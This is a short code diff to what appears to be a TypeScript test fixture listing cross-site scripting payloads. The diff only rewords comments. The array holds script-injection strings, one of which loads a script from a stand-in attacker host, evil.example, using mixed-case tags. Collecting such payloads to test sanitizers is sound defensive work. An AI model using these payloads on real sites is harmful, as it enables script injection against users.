@@ -1,8 +1,10 @@
 const RUN = "window.__pwned=1";
-/** Nobody is there; a page that asks for it has been tricked. */
+/** Nobody is there; a page that requests it was tricked. */
 const AWAY = "//evil.example";
 
-/** What people have smuggled scripts and requests into pages with. Each is one line, and ends in a word to be found by. */
+/**
+ * Texts with which people have smuggled scripts and requests into pages. Each is one line, and ends in a unique word.
+ */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<ScRiPt src=${AWAY}/x.js></ScRiPt>`,
